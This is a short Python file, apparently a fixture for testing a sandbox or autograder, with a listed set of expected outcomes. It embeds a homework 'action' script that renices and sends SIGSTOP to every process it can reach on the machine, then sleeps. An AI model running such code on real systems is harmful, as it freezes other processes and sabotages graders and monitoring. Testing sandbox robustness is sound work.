"""Stops, and renices, every process that it may, and keeps the machine's cores to itself."""

SAYS = "no answer|no end|ended"
BODIES = {
    "hw3.argmax.action": r"""
import os, signal, time
for pid in [int(name) for name in os.listdir("/proc") if name.isdigit()]:
    if pid != os.getpid():
        for act in (lambda: os.setpriority(os.PRIO_PROCESS, pid, 19), lambda: os.kill(pid, signal.SIGSTOP)):
            try:
                act()
            except OSError:
                pass
time.sleep(60)
"""
}
